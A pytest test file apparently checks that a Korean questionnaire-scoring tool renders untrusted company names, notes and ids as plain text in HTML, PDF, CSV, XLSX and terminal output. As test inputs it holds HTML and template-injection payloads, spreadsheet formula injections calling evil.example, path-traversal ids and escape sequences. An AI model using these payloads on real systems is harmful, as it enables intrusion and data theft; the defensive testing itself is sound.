"""Untrusted text stays text (issue 7).

Company names and ids, consultants, rounds, notes, text answers, survey cells and file names
come from people and files outside our control. None of it may become markup, CSS, a fetched
URL, a read file, a PDF attachment, a spreadsheet formula or a terminal escape sequence.
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import unicodedata
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlparse

import openpyxl
import pytest
import yaml
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject
from typer.testing import CliRunner
from weasyprint.urls import URLFetcher

from diagnose.cli import app
from diagnose.core import fonts, resources
from diagnose.engine import batch
from diagnose.jobs import cohort, compare, reports
from diagnose.render import charts, report
from diagnose.render.typography import strip_joiners

runner = CliRunner()

# One hostile string per kind of attack; each becomes a company's name, consultant, notes,
# text answers and main customers.
HOSTILE: dict[str, str] = {
    "img": '<img src="file:///etc/passwd">',
    "link-attachment": '<link rel="attachment" href="/etc/passwd">',
    "a-attachment": '<a rel=attachment href="file:///etc/passwd">passwd</a>',
    "style-import": "<style>@import url(http://evil.example/x.css)</style>",
    "close-style-script": "</style><script>alert(1)</script>",
    "svg-onload": '"><svg onload=alert(1)><image href="file:///etc/passwd"/>',
    "attribute-breakout": "' style='background:url(http://evil.example/b.png)' x='",
    "css-url": "url(file:///etc/hostname)",
    "iframe-object": '<iframe src="http://evil.example"></iframe><object data="file:///etc/passwd">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "base": '<base href="http://evil.example/">',
    "comment-cdata": "<!-- x --><![CDATA[ y ]]>",
    "entities": "&lt;b&gt; &amp; &#x3C;i&#x3E;",
    "jinja-expression": "{{ 7*7 }}",
    "jinja-raw": "{% raw %}",
    "jinja-globals": "{{ self.__init__.__globals__ }}{% include '/etc/passwd' %}",
    "formula-equals": '=HYPERLINK("http://evil.example","click")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-1+1",
    "formula-at": "@SUM(1)",
    "tab-prefix": "\t=1+1",
    "cr-prefix": "\r=2+2",
    "nul": "a\x00b",
    "ansi": "\x1b[2J\x1b]0;pwned\x07",
    "rtl-override": "\u202eexe.txt",
    "rich-markup": "[bold red]RICH[/] [link=http://evil.example]x[/link]",
    "very-long": "A" * 500,
    "korean-long": "울산정밀" * 30,
    "korean": "(주)울산정밀 & 똠방각하 ①",
    "only-dots": "...",
}
# Company ids that would be dangerous as file names.
HOSTILE_IDS = ["../../etc/passwd", "CON", "a/b", "a_b", ".hidden", "...", "..", "/abs/root",
               "C:\\Windows\\evil", "a\x00b", "\u202etxt.exe", "울산-0042", "x" * 300, "-rf",
               "$(touch pwned)", "a:b*c?d|e<f>g", " spaced id ", "NUL.txt"]
BENIGN = "평범한기업"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_HOSTS = ("evil", "passwd", "hostname")


def response(company: dict[str, Any], *, consultant: str, round_: str = "baseline",
             text: str, date: str = "2026-04-02", level: int = 2) -> dict[str, Any]:
    """A response file's data: the same answers for every company, ``text`` in every note and
    free-text answer."""
    return {
        "questionnaire": {"id": "mfg-ai-readiness", "version": "1.0"},
        "company": {"industry": "metal", "employees": 120, "main_customers": text, **company},
        "assessment": {"date": date, "round": round_, "consultant": consultant},
        "answers": {
            "strategy.vision": {"value": level, "note": text},
            "strategy.ai_goal": text,
            "data.collection": {"value": level, "note": text},
            "infra.plc_connectivity": level,
            "process.quality_inspection": level,
            "process.pain_point": text,
            "talent.ai_skills": level,
        },
        "status": "complete",
    }


def write_yaml(path: Path, data: dict[str, Any]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def flat(text: str) -> str:
    """Text without whitespace: PDF text extraction breaks lines wherever the layout did."""
    return "".join(text.split())


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:  # a CR inside a cell stays
        return list(csv.DictReader(handle))


def pdf_text(path: Path) -> str:
    return "\n".join(page.extract_text() or "" for page in PdfReader(path).pages)


def inside(url: str, roots: list[Path]) -> bool:
    parsed = urlparse(url)
    if parsed.scheme != "file":
        return False
    path = Path(unquote(parsed.path)).resolve()
    return any(path.is_relative_to(root) for root in roots)


def bundled_roots() -> list[Path]:
    return [resources.REPORT_TEMPLATES.resolve(), fonts.font_dir().resolve()]


@contextlib.contextmanager
def recording(render: bool = True) -> Iterator[tuple[list[str], list[tuple[Path, str]]]]:
    """Record every URL WeasyPrint asks for and the HTML of every PDF (rendered or not)."""
    urls: list[str] = []
    pages: list[tuple[Path, str]] = []
    call, write_pdf = URLFetcher.__call__, report.write_pdf
    report.forget_styles()  # parsed once per process: parse them again, under the recording

    def fetch(self: URLFetcher, url: str) -> Any:
        urls.append(url)
        return call(self, url)

    def write(html: str, out: Path, *args: Any, **kwargs: Any) -> None:
        pages.append((out, html))
        if render:
            write_pdf(html, out, *args, **kwargs)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(URLFetcher, "__call__", fetch)
        patch.setattr(report, "write_pdf", write)
        yield urls, pages


class Shape(HTMLParser):
    """An HTML document's elements, attributes, comments and text, as the parser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.shape: list[tuple[Any, ...]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append(("start", tag, tuple(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append(("empty", tag, tuple(attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.shape.append(("end", tag))

    def handle_comment(self, data: str) -> None:
        self.shape.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        self.shape.append(("decl", decl))

    def handle_pi(self, data: str) -> None:
        self.shape.append(("pi", data))

    def unknown_decl(self, data: str) -> None:
        self.shape.append(("unknown", data))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    @property
    def all_text(self) -> str:
        return "".join(self.text)


def without_svg(shape: list[tuple[Any, ...]]) -> list[tuple[Any, ...]]:
    """The shape outside inline SVG charts (their text layout depends on the characters)."""
    kept, depth = [], 0
    for item in shape:
        if item[0] == "start" and item[1] == "svg":
            depth += 1
        if not depth:
            kept.append(item)
        if item[0] == "end" and item[1] == "svg":
            depth -= 1
    return kept


def pdf_dictionaries(reader: PdfReader) -> Iterator[DictionaryObject]:
    """Every dictionary of a PDF: indirect objects (also those inside object streams) and the
    dictionaries nested in them, such as a link's action."""

    def nested(obj: Any) -> Iterator[DictionaryObject]:
        if isinstance(obj, DictionaryObject):
            yield obj
            for value in obj.values():
                yield from nested(value)
        elif isinstance(obj, ArrayObject):
            for value in obj:
                yield from nested(value)

    for number in range(1, int(reader.trailer["/Size"])):
        try:
            obj = reader.get_object(number)
        except Exception:  # a free entry of the cross-reference table
            continue
        yield from nested(obj)


def assert_inert_pdf(path: Path) -> None:
    """No attachment, embedded file, script, launch action or link to a hostile place."""
    reader = PdfReader(path)
    assert not dict(reader.attachments), path
    names = reader.trailer["/Root"].get("/Names")
    assert names is None or "/EmbeddedFiles" not in names.get_object(), path
    for obj in pdf_dictionaries(reader):
        kinds = {str(obj.get(k)) for k in ("/Type", "/S", "/Subtype")}
        assert not kinds & {"/EmbeddedFile", "/Filespec", "/FileAttachment", "/JavaScript",
                            "/Launch", "/GoToR", "/ImportData", "/SubmitForm"}, (path, kinds)
        assert not {"/EmbeddedFiles", "/JS", "/AA", "/OpenAction"} & set(obj.keys()), path
        uri = str(obj.get("/URI", ""))
        assert not any(host in uri for host in HOSTILE_HOSTS) and "file:" not in uri, uri


# --- HTML: every hostile string in every field, no PDF ---------------------------------------

@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory: pytest.TempPathFactory) -> batch.Batch:
    folder = tmp_path_factory.mktemp("hostile") / "responses"
    for i, (key, text) in enumerate(HOSTILE.items()):
        cid = HOSTILE_IDS[i] if i < len(HOSTILE_IDS) else f"h{i:02d}"
        write_yaml(folder / f"{i:02d}-{key}.yaml",
                   response({"id": cid, "name": text}, consultant=text, text=text))
    write_yaml(folder / "99-benign.yaml",
               response({"id": "benign-1", "name": BENIGN}, consultant="김민수", text="평범한 메모"))
    result = batch.score_inputs([folder])
    assert not result.rejections, [r.render("en") for r in result.rejections]
    assert len(result.scores.table) == len(HOSTILE) + 1
    return result


@pytest.fixture(scope="module")
def report_html(hostile_batch: batch.Batch, tmp_path_factory: pytest.TempPathFactory
                ) -> dict[str, tuple[report.ReportJob, str]]:
    """Company name -> (its report job, its report HTML)."""
    jobs = reports.report_jobs(hostile_batch, tmp_path_factory.mktemp("reports"), "ko")
    pages = {job.context["company"]["name"]: (job, report.render_html(job.context, job.templates))
             for job in jobs}
    assert len(pages) == len(jobs)  # every name is a different company
    return pages


@pytest.mark.parametrize("key", HOSTILE)
def test_report_html_shows_hostile_text_as_text_and_adds_no_element(
        key: str, report_html: dict[str, tuple[report.ReportJob, str]]) -> None:
    text = HOSTILE[key]
    name = text.strip()
    assert name in report_html, sorted(report_html)
    hostile = Shape(report_html[name][1])
    benign = Shape(report_html[BENIGN][1])
    assert hostile.shape == benign.shape  # same elements, attributes and comments, in order
    shown = hostile.all_text.replace("\u2060", "")  # word joiners keep Korean words whole
    assert shown.count(name) >= 3, key  # the title, the cover, the notes and answers
    assert text in shown  # the consultant, kept as typed


def test_report_html_never_evaluates_template_syntax(
        report_html: dict[str, tuple[report.ReportJob, str]]) -> None:
    html = report_html[HOSTILE["jinja-expression"]][1]
    assert "{{ 7*7 }}" in Shape(html).all_text
    assert "&lt;img src=&#34;file:///etc/passwd&#34;&gt;" in report_html[HOSTILE["img"]][1]


def test_report_file_names_stay_in_the_output_folder_and_are_sane(
        report_html: dict[str, tuple[report.ReportJob, str]]) -> None:
    outs = [job.out for job, _ in report_html.values()]
    assert len(set(outs)) == len(outs)  # 'a/b' and 'a_b' do not overwrite each other
    folder = outs[0].parent
    for out in outs:
        name = out.name
        assert out.parent == folder and (folder / name).resolve().parent == folder.resolve()
        assert name.endswith(".pdf") and not name.startswith(".")
        assert not any(c in name for c in '/\\:*?"<>|')
        assert not any(unicodedata.category(c) in {"Cc", "Cf"} for c in name), repr(name)
        assert len(name.encode("utf-8")) <= 200, name


@pytest.mark.parametrize("key", [*HOSTILE_IDS, *HOSTILE.values()])
def test_report_name_is_a_plain_file_name_for_any_key(key: str) -> None:
    for round_ in ("baseline", "", "../..", HOSTILE["rtl-override"]):
        name = reports.report_name(key, round_, set())
        assert name == Path(name).name and name not in {".pdf", "..pdf"}
        assert not name.startswith(".") and name.endswith(".pdf")
        assert not any(c in name for c in '/\\:*?"<>|\x00')
        assert not any(unicodedata.category(c) in {"Cc", "Cf"} for c in name)


def test_a_long_korean_company_name_still_gives_a_report(tmp_path: Path) -> None:
    name = reports.report_name("울산정밀" * 25, "baseline", set())
    report.write_pdf("<p>x</p>", tmp_path / name, report.template_dirs())
    assert (tmp_path / name).is_file()


WINDOWS_DEVICES = {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(1, 10)),
                   *(f"LPT{i}" for i in range(1, 10))}


@pytest.mark.parametrize("key,round_", [("CON", ""), ("con.1", "baseline"), ("NUL.txt", ""),
                                         ("COM1", "")])
def test_report_names_are_never_windows_device_names(key: str, round_: str) -> None:
    name = reports.report_name(key, round_, set())
    assert name.split(".")[0].upper() not in WINDOWS_DEVICES, name


# --- cohort and compare HTML ---------------------------------------------------------------

@pytest.fixture(scope="module")
def cohort_pages(hostile_batch: batch.Batch, tmp_path_factory: pytest.TempPathFactory
                 ) -> dict[str, Any]:
    """The cohort of the hostile batch and of a benign twin (same answers), HTML only."""
    out = tmp_path_factory.mktemp("cohort")
    twin_folder = out / "twin"
    for i in range(len(hostile_batch.scores.table)):
        write_yaml(twin_folder / f"{i:02d}.yaml",
                   response({"id": f"twin-{i:02d}", "name": f"쌍둥이{i:02d}"},
                            consultant=f"컨설턴트{i:02d}", text="평범한 메모"))
    with recording(render=False) as (_, pages):
        cohort.build_cohort(hostile_batch, out / "hostile")
        cohort.build_cohort(batch.score_inputs([twin_folder]), out / "benign")
    return {"hostile": pages[0][1], "benign": pages[1][1], "xlsx": out / "hostile" / "cohort.xlsx"}


def test_cohort_html_shows_hostile_names_as_text_and_adds_no_element(cohort_pages: dict) -> None:
    hostile, benign = Shape(cohort_pages["hostile"]), Shape(cohort_pages["benign"])
    assert without_svg(hostile.shape) == without_svg(benign.shape)
    shown = strip_joiners(hostile.all_text)  # word joiners keep Korean words whole
    for text in HOSTILE.values():
        assert text.strip() in shown, text


def test_cohort_workbook_holds_no_formula_and_no_control_character(cohort_pages: dict) -> None:
    workbook = openpyxl.load_workbook(cohort_pages["xlsx"])
    names = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_PREFIXES), cell.value
                    assert not any(unicodedata.category(c) == "Cc" and c not in "\t\n\r"
                                   for c in cell.value), repr(cell.value)
                    names.append(cell.value)
    assert "'" + HOSTILE["formula-equals"] in names and "'-1+1" in names
    assert "[2J]0;pwned" in names and "ab" in names  # control characters dropped, text kept
    assert HOSTILE["img"] in names  # markup in a spreadsheet is only text


# --- real PDFs through the command line -----------------------------------------------------

PDF_COMPANY = {  # one company with a different attack in every field
    "id": "../../etc/passwd",
    "name": f"{HOSTILE['img']}{HOSTILE['link-attachment']} [bold red]RICH[/]",
    "consultant": HOSTILE["a-attachment"],
    "notes": HOSTILE["style-import"] + HOSTILE["close-style-script"],
    "goal": HOSTILE["svg-onload"] + " " + HOSTILE["css-url"],
    "pain": HOSTILE["jinja-expression"] + HOSTILE["jinja-raw"] + HOSTILE["iframe-object"],
    "customers": HOSTILE["formula-equals"] + " " + HOSTILE["base"],
    "rounds": ("<b>r1</b> {{ 7*7 }}", "<b>r2</b> url(http://evil.example/r.css)"),
}
CONTROL_COMPANY = {  # control and bidi characters, a very long Korean name, a device-name id
    "id": "CON",
    "name": "(주)울산정밀 & 똠방각하 " + "가나다라마바사" * 12,
    "consultant": "\x1b[2J김민수\x00",
    "text": HOSTILE["rtl-override"] + " " + HOSTILE["ansi"] + " " + "B" * 300,
}


def _pdf_company(round_: str, date: str, level: int) -> dict[str, Any]:
    c = PDF_COMPANY
    data = response({"id": c["id"], "name": c["name"], "main_customers": c["customers"]},
                    consultant=c["consultant"], round_=round_, text=c["notes"], date=date,
                    level=level)
    data["answers"]["strategy.ai_goal"] = c["goal"]
    data["answers"]["process.pain_point"] = c["pain"]
    return data


@pytest.fixture(scope="module")
def pdfs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("pdfs")
    folder = root / "responses"
    baseline = write_yaml(folder / "a.yaml",
                          _pdf_company(PDF_COMPANY["rounds"][0], "2026-04-02", 2))
    c = CONTROL_COMPANY
    write_yaml(folder / "b.yaml", response({"id": c["id"], "name": c["name"]},
                                           consultant=c["consultant"], text=c["text"]))
    followup = write_yaml(root / "later" / "a.yaml",
                          _pdf_company(PDF_COMPANY["rounds"][1], "2026-10-02", 4))
    with recording() as (urls, pages):
        runs = {
            "report": runner.invoke(app, ["report", str(folder), "--out", str(root / "reports"),
                                          "--workers", "1", "--quiet"]),
            "cohort": runner.invoke(app, ["cohort", str(folder), "--out", str(root / "cohort"),
                                          "--quiet"]),
            "compare": runner.invoke(app, ["compare", str(baseline), str(followup), "-o",
                                           str(root / "compare.pdf")]),
        }
    for command, run in runs.items():
        assert run.exit_code == 0, (command, run.stderr, run.exception)
    reports = sorted((root / "reports").glob("*.pdf"))
    assert len(reports) == 2
    return {"runs": runs, "urls": urls, "pages": pages, "reports": reports,
            "cohort": root / "cohort" / "cohort.pdf", "compare": root / "compare.pdf",
            "root": root, "files": (baseline, followup)}


@pytest.mark.slow
def test_pdfs_are_written_inside_the_output_folder(pdfs: dict[str, Any]) -> None:
    names = sorted(p.name for p in pdfs["reports"])
    assert names[0] == "CON_baseline.pdf" and names[1].startswith("etc_passwd_")
    assert sorted(p.name for p in pdfs["root"].rglob("*.pdf")) == sorted(
        [*names, "cohort.pdf", "compare.pdf"])


@pytest.mark.slow
def test_weasyprint_fetches_only_bundled_assets(pdfs: dict[str, Any]) -> None:
    urls = pdfs["urls"]
    assert urls and len(pdfs["pages"]) == 4  # two reports, the cohort, the comparison
    roots = bundled_roots()
    outside = [url for url in urls if not inside(url, roots)]
    assert not outside
    assert any(url.endswith("report.css") for url in urls)


@pytest.mark.slow
def test_pdfs_carry_no_attachment_script_or_hostile_link(pdfs: dict[str, Any]) -> None:
    for path in [*pdfs["reports"], pdfs["cohort"], pdfs["compare"]]:
        assert_inert_pdf(path)


@pytest.mark.slow
def test_report_pdf_shows_the_hostile_text_literally(pdfs: dict[str, Any]) -> None:
    (path,) = [p for p in pdfs["reports"] if p.name.startswith("etc_passwd")]
    text = flat(pdf_text(path))
    c = PDF_COMPANY
    for field in ("id", "name", "consultant", "notes", "goal", "pain", "customers"):
        assert flat(c[field]) in text, field
    assert flat(c["rounds"][0]) in text
    title = PdfReader(path).metadata.title
    assert title.startswith(c["name"])


@pytest.mark.slow
def test_report_pdf_with_control_characters_keeps_the_visible_text(pdfs: dict[str, Any]) -> None:
    (path,) = [p for p in pdfs["reports"] if p.name.startswith("CON")]
    text = flat(pdf_text(path))
    assert flat(CONTROL_COMPANY["name"]) in text
    assert "김민수" in text and "B" * 300 in text


@pytest.mark.slow
def test_cohort_and_compare_pdfs_show_hostile_names_literally(pdfs: dict[str, Any]) -> None:
    cohort_text = flat(pdf_text(pdfs["cohort"]))
    assert flat(PDF_COMPANY["name"]) in cohort_text
    assert flat(CONTROL_COMPANY["name"]) in cohort_text
    compare_text = flat(pdf_text(pdfs["compare"]))
    for value in (PDF_COMPANY["name"], PDF_COMPANY["id"], PDF_COMPANY["consultant"],
                  *PDF_COMPANY["rounds"]):
        assert flat(value) in compare_text, value


@pytest.mark.slow
def test_compare_html_adds_no_element(pdfs: dict[str, Any], tmp_path: Path) -> None:
    twin = []
    for source in pdfs["files"]:
        data = yaml.safe_load(source.read_text(encoding="utf-8"))
        data["company"].update(id="twin-1", name="쌍둥이", main_customers="고객")
        data["assessment"]["consultant"] = "김민수"
        data["assessment"]["round"] = data["assessment"]["round"].replace("<", "(")
        twin.append(write_yaml(tmp_path / source.parent.name / "twin.yaml", data))
    with recording(render=False) as (_, pages):
        compare.compare_files(twin[0], twin[1], tmp_path / "twin.pdf")
    hostile = next(html for out, html in pdfs["pages"] if out.name == "compare.pdf")
    assert without_svg(Shape(hostile).shape) == without_svg(Shape(pages[0][1]).shape)


@pytest.mark.slow
def test_rich_markup_in_a_company_name_prints_literally(pdfs: dict[str, Any]) -> None:
    assert flat("[bold red]RICH[/]") in flat(pdfs["runs"]["compare"].stderr)
    assert "\x1b" not in pdfs["runs"]["compare"].stderr


def test_the_report_fetcher_refuses_everything_but_bundled_files() -> None:
    roots = [resources.REPORT_TEMPLATES, fonts.font_dir()]
    fetcher = report._safe_fetcher(roots)
    css = (resources.REPORT_TEMPLATES / "report.css").resolve()
    assert fetcher(css.as_uri()).read()  # the bundled stylesheet is served
    templates = resources.REPORT_TEMPLATES.resolve().as_uri()
    for url in ("file:///etc/passwd", "file:///etc/hostname", "http://evil.example/x.css",
                "https://evil.example/x.png", "ftp://evil.example/x", "data:text/css,body{}",
                f"{templates}/../../../../../../etc/passwd",
                f"{templates}/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
                f"{templates}/missing.css", "file://evil.example/share/x.css", "/etc/passwd",
                "../../etc/passwd"):
        with pytest.raises(Exception):  # noqa: B017 - WeasyPrint catches any exception
            fetcher(url)


@pytest.mark.slow
def test_dollar_signs_in_a_round_name_are_plain_text(pdfs: dict[str, Any], tmp_path: Path
                                                     ) -> None:
    files = []
    for source, round_ in zip(pdfs["files"], ("1차 $\\foo$", "2차 $5 $6"), strict=True):
        data = yaml.safe_load(source.read_text(encoding="utf-8"))
        data["assessment"]["round"] = round_
        files.append(write_yaml(tmp_path / source.parent.name / "a.yaml", data))
    with recording(render=False):
        run = runner.invoke(app, ["compare", *map(str, files), "-o", str(tmp_path / "c.pdf")])
    assert run.exit_code == 0, run.stderr
    svg = charts.radar_svg(["a", "b", "c"], [charts.Series("차수 $x^2$", [1.0, 2.0, 3.0])])
    assert "DejaVu" not in svg  # math would be set in matplotlib's own font


# --- score tables ---------------------------------------------------------------------------

FORMULAS = [HOSTILE[k] for k in ("formula-equals", "formula-plus", "formula-minus",
                                 "formula-at", "tab-prefix", "cr-prefix")] + [
    "=cmd|' /C notepad'!'A1'", "@IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "-2+3+cmd|' /C calc'!A0", "+1", "=1+1;", "＝1+1"]


@pytest.fixture(scope="module")
def score_tables(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("tables")
    for i, formula in enumerate(FORMULAS):
        write_yaml(root / "in" / f"{i:02d}.yaml", response(
            {"id": f"f{i:02d}", "name": formula}, consultant=formula, round_=formula,
            text=formula))
    runs = {suffix: runner.invoke(app, ["score", str(root / "in"), "-o",
                                        str(root / f"scores.{suffix}"), "--quiet"])
            for suffix in ("csv", "xlsx", "json")}
    for suffix, run in runs.items():
        assert run.exit_code == 0, (suffix, run.stderr, run.exception)
    return {"root": root, "runs": runs,
            "json": json.loads((root / "scores.json").read_text(encoding="utf-8"))}


def test_json_keeps_the_exact_text(score_tables: dict[str, Any]) -> None:
    rows = sorted(score_tables["json"], key=lambda r: r["company.id"])
    assert [r["company.name"] for r in rows] == [f.strip() for f in FORMULAS]
    assert [r["assessment.consultant"] for r in rows] == FORMULAS
    assert [r["assessment.round"] for r in rows] == FORMULAS


def test_csv_neutralises_every_formula_prefix(score_tables: dict[str, Any]) -> None:
    rows = read_csv(score_tables["root"] / "scores.csv")
    expected = {r["company.id"]: r for r in score_tables["json"]}
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("company.name", "assessment.consultant", "assessment.round",
                       "company.main_customers"):
            value = expected[row["company.id"]][column]
            shown = "'" + value if value.startswith(FORMULA_PREFIXES) else value
            assert row[column] == shown, (column, value)
        for column, value in row.items():
            assert not value.startswith(FORMULA_PREFIXES), (column, value)


def test_xlsx_holds_no_formula(score_tables: dict[str, Any]) -> None:
    sheet = openpyxl.load_workbook(score_tables["root"] / "scores.xlsx").active
    expected = {r["company.name"] for r in score_tables["json"]}
    names = set()
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_PREFIXES), cell.value
        names.add(row[1].value)
    assert names == {"'" + v if v.startswith(FORMULA_PREFIXES) else v for v in expected}


def test_xlsx_survives_control_characters(tmp_path: Path) -> None:
    for i, text in enumerate(["\x1b[2Jclear", "a\x00b", "x\x0by"]):
        write_yaml(tmp_path / "in" / f"{i}.yaml",
                   response({"id": f"c{i}", "name": text}, consultant=text, text=text))
    run = runner.invoke(app, ["score", str(tmp_path / "in"), "-o", str(tmp_path / "s.xlsx"),
                              "--quiet"])
    assert run.exit_code == 0, run.stderr
    names = [r[1].value for r in openpyxl.load_workbook(tmp_path / "s.xlsx").active
             .iter_rows(min_row=2)]
    assert sorted(names) == ["[2Jclear", "ab", "xy"]


SURVEY_HEADER = ["id", "name", "industry", "employees", "strategy.vision", "data.collection"]


def write_survey(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([SURVEY_HEADER, *rows])
    return path


def test_errors_csv_neutralises_formula_prefixes(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)  # a relative input name is what the errors file shows
    bad = [HOSTILE["formula-equals"], HOSTILE["formula-plus"], "-1", HOSTILE["formula-at"],
           "\t=1+1x"]
    write_survey(tmp_path / "=evil.csv",
                 [[f"s{i}", f"기업{i}", "metal", "10", "2", value] for i, value in enumerate(bad)]
                 + [["ok", "정상기업", "metal", "10", "2", "3"]])
    run = runner.invoke(app, ["score", "=evil.csv", "-o", "out.csv", "--quiet"])
    assert run.exit_code == 1, run.stderr
    rows = read_csv(tmp_path / "out.errors.csv")
    assert len(rows) == len(bad)
    for row, value in zip(rows, bad, strict=True):
        assert row["value"] in {"'" + value, "'" + value.strip()}, row
        assert row["file"] == "'=evil.csv"
        assert not any(v.startswith(FORMULA_PREFIXES) for v in row.values()), row


# --- the terminal ---------------------------------------------------------------------------

ESCAPES = "\x1b[2J\x1b]0;pwned\x07"


def _terminal_case(case: str, tmp_path: Path) -> tuple[list[str], int]:
    """The command line of one case and its exit code."""
    if case == "error":  # two different companies cannot be compared: both are named
        files = [write_yaml(tmp_path / f"{cid}.yaml",
                            response({"id": cid, "name": ESCAPES + cid}, consultant="김", text="t"))
                 for cid in ("e1", "e2")]
        return ["compare", *map(str, files), "-o", str(tmp_path / "c.pdf")], 2
    if case == "warning":  # an unknown company field is named in a warning
        data = response({"id": "w1", "name": "경고기업", ESCAPES: "x"}, consultant="김민수",
                        text="메모")
        write_yaml(tmp_path / "w.yaml", data)
        return ["score", str(tmp_path / "w.yaml"), "-o", str(tmp_path / "w.csv")], 0
    write_survey(tmp_path / "in.csv", [["t1", "기업", "metal", "10", "2", ESCAPES + "3"]])
    quiet = ["--quiet"] if case == "rejection-line" else []
    return ["score", str(tmp_path / "in.csv"), "-o", str(tmp_path / "out.csv"), *quiet], 1


@pytest.mark.parametrize("case", ["rejection-table", "rejection-line", "warning", "error"])
def test_terminal_output_carries_no_escape_sequence_from_input(case: str, tmp_path: Path) -> None:
    args, code = _terminal_case(case, tmp_path)
    run = runner.invoke(app, args)
    assert run.exit_code == code, run.stderr
    assert "pwned" in run.stderr or "[2J" in run.stderr  # the value is shown ...
    assert "\x1b" not in run.stderr and "\x07" not in run.stderr  # ... but never run


def test_rich_markup_in_survey_cells_prints_literally(tmp_path: Path) -> None:
    markup = "[bold red]X[/]"
    write_survey(tmp_path / "in.csv", [["m1", markup, "metal", "10", "2", "3"],
                                       ["m2", "기업", "metal", "10", "2", "[link=http://e]9[/]"]])
    run = runner.invoke(app, ["score", str(tmp_path / "in.csv"), "-o", str(tmp_path / "o.csv")],
                        env={"COLUMNS": "200"})
    assert run.exit_code == 1
    assert markup in run.stdout  # the score summary
    assert "[link=http://e]9[/]" in run.stderr  # the rejected cell


def test_an_input_file_name_is_not_a_report_name(tmp_path: Path) -> None:
    # The PDF is named by the company id, never by the response file's own name.
    source = write_yaml(tmp_path / "..;evil$(id).yaml",
                        response({"id": "plain-1", "name": "평범"}, consultant="김", text="t"))
    result = batch.score_inputs([source])
    (job,) = reports.report_jobs(result, tmp_path / "out", "ko")
    assert job.out == tmp_path / "out" / "plain-1_baseline.pdf"
    assert os.path.commonpath([job.out, tmp_path / "out"]) == str(tmp_path / "out")

